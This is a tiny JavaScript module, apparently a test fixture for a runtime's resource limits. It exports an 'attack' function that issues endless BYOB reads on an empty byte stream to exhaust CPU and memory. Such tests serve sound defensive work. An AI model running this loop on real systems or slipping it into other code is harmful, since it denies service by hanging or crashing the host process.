// cpu|memory: reads with buffers that nobody fills, without end
export default async function attack() {
  const reader = new ReadableStream({ type: "bytes" }).getReader({ mode: "byob" });
  for (;;) reader.read(new Uint8Array(100)).catch(() => {});
}
